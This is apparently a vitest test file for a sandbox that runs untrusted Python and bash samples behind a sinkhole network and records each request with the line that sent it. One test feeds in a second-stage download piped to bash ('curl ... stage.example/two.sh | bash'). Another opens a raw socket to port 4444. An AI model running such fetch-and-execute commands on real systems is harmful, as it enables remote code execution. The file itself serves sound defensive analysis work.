import { readdirSync, readFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import type { Conversation } from '../../observe/network/conversation.ts';
import { identify } from '../../sample/identify.ts';
import type { Network } from '../backend.ts';
import { LIMIT_PROFILES } from '../limits.ts';
import type { Run } from '../run.ts';
import { createJail } from './jail.ts';

const jail = createJail();
afterAll(() => jail.dispose());

type Spoken = 'python' | 'bash';
const ENTRIES: Record<Spoken, string> = { python: 'main.py', bash: 'main.sh' };

function run(language: Spoken, code: string, network: Network | 'default' = { mode: 'sinkhole' }): Promise<Run> {
  const entry = ENTRIES[language];
  const files = [{ path: entry, content: Buffer.from(code) }];
  const sample = { id: identify(language, entry, files), language, entry, files, args: [] };
  return jail.run(sample, {
    limits: { ...LIMIT_PROFILES.default, cpus: 2 },
    observe: true,
    ...(network !== 'default' && { network }),
  });
}

function said(result: Run): Conversation[] {
  return (result.conversations ?? []).filter(({ protocol }) => protocol !== 'dns');
}

/** What was sent where, in short. */
function summary(result: Run): string[] {
  return said(result).map(
    ({ protocol, operation, url, host, port, sent, source }) =>
      `${protocol} ${operation} ${url ?? `${host}:${port}`} ${sent.text ?? sent.base64} @${source?.line}`,
  );
}

describe('what ordinary clients send is kept with the line that sent it', { timeout: 60_000 }, () => {
  it('urllib, http.client over TLS, and a socket', async () => {
    const result = await run(
      'python',
      [
        'import urllib.request, http.client, socket',
        "print(urllib.request.urlopen('http://a.example/x', data=b'k=v').status)",
        "c = http.client.HTTPSConnection('b.example')",
        "c.request('PUT', '/p?q=1', body=bytes([0, 255]), headers={'X-Key': 'v'})",
        'print(c.getresponse().status)',
        "s = socket.create_connection(('203.0.113.9', 4444))",
        "s.sendall(b'raw')",
        's.close()',
      ].join('\n'),
    );
    expect(result.stderr).toBe('');
    expect(result.stdout).toBe('200\n200\n');
    expect(summary(result)).toEqual([
      'http POST http://a.example/x k=v @2',
      'http PUT https://b.example/p?q=1 AP8= @4',
      'tcp session 203.0.113.9:4444 raw @7',
    ]);
    expect(said(result)[1]?.headers).toContainEqual({ name: 'X-Key', value: 'v' });
    expect(said(result)[1]?.tls?.serverName).toBe('b.example');
  });
});

describe('the sample’s own machine', () => {
  it('is its own: loopback and Unix sockets work as before, and nobody else is there', async () => {
    const result = await run(
      'python',
      [
        'import socket',
        "l = socket.socket(); l.bind(('127.0.0.1', 5050)); l.listen()",
        "k = socket.create_connection(('127.0.0.1', 5050)); k.send(b'x'); print(l.accept()[0].recv(1))",
        'a, b = socket.socketpair(); a.send(b"u"); print(b.recv(1))',
        "for host in ('127.0.0.1', '0.0.0.0', '::1', '::ffff:127.0.0.1'):",
        '    try: socket.create_connection((host, 5051)); print("answered")',
        '    except ConnectionRefusedError: print("refused")',
      ].join('\n'),
    );
    expect(result.stdout).toBe("b'x'\nb'u'\nrefused\nrefused\nrefused\nrefused\n");
    expect(said(result)).toEqual([]);
  });
});

describe('a network that is played', () => {
  it('serves a second stage of the policy’s', async () => {
    const result = await run('bash', 'curl -s http://stage.example/two.sh | bash', {
      mode: 'sinkhole',
      replies: [{ host: 'stage.example', path: '/two.sh', body: 'echo second stage ran\n' }],
    });
    expect(result.stdout).toBe('second stage ran\n');
    expect(said(result)[0]?.reply).toMatchObject({ status: 200, scripted: true, text: 'echo second stage ran\n' });
  });

  it('is told by the names that were asked for, as emulated, by the kernel and by itself', async () => {
    const result = await run(
      'python',
      "import urllib.request\nurllib.request.urlopen('https://api.example/v1', b'x')\n",
    );
    const told = result.events.filter(({ capability }) => capability.startsWith('network.'));
    expect(told).toContainEqual(
      expect.objectContaining({ observer: 'kernel', target: 'api.example:443', outcome: 'emulated' }),
    );
    expect(told).toContainEqual(
      expect.objectContaining({
        observer: 'network',
        capability: 'network.send',
        target: 'https://api.example/v1',
        source: { file: 'main.py', line: 2 },
      }),
    );
  });

  it('keeps what was sent in the last moment', async () => {
    const result = await run(
      'python',
      "import os, socket\ns = socket.create_connection(('203.0.113.9', 80))\ns.sendall(b'x' * 60000)\nos._exit(0)\n",
    );
    expect(said(result)[0]?.sent.bytes).toBe(60_000);
  });

  it('has a bound on destinations, and the run goes on', async () => {
    const result = await run(
      'python',
      [
        'import socket',
        'n = 0',
        'for i in range(600):',
        '    s = socket.socket()',
        '    n += s.connect_ex((f"198.51.{i // 200}.{i % 200 + 1}", 80)) == 0',
        '    s.close()',
        'print(n)',
      ].join('\n'),
    );
    expect(Number(result.stdout)).toBe(119); // the resolver is the 120th
  });

  it('leaves nothing behind: no process, no socket', async () => {
    await run('python', "import socket\nsocket.create_connection(('203.0.113.9', 80)).send(b'x')\n");
    const wardens = readdirSync('/proc').filter((pid) => /^\d+$/.test(pid) && isOurWarden(pid));
    expect(wardens).toEqual([]);
    const open = readFileSync('/proc/net/unix', 'utf8').match(/@glovebox-sinkhole-\d+-\S+/g) ?? [];
    // The one that listens, for as long as this process lives.
    expect(open.filter((name) => name.startsWith(`@glovebox-sinkhole-${process.pid}-`))).toHaveLength(1);
  });
});

describe('without one', () => {
  it.each(['default', { mode: 'deny' }] as const)('nothing has changed: %j', async (network) => {
    const result = await run(
      'python',
      [
        'import os, socket',
        "for host in ('203.0.113.9', 'name.example'):",
        '    try: socket.create_connection((host, 80)); print("answered")',
        '    except OSError as error: print(type(error).__name__, error.errno)',
        "print('SSL_CERT_FILE' in os.environ)",
      ].join('\n'),
      network,
    );
    expect(result.stdout).toBe('OSError 101\ngaierror -3\nFalse\n');
    expect(result).not.toHaveProperty('conversations');
    expect(result.events.filter(({ outcome }) => outcome === 'emulated')).toEqual([]);
  });
});

function isOurWarden(pid: string): boolean {
  try {
    const [, parent = ''] = /\nPPid:\t(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8')) ?? [];
    return Number(parent) === process.pid && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('warden');
  } catch {
    return false; // gone meanwhile
  }
}
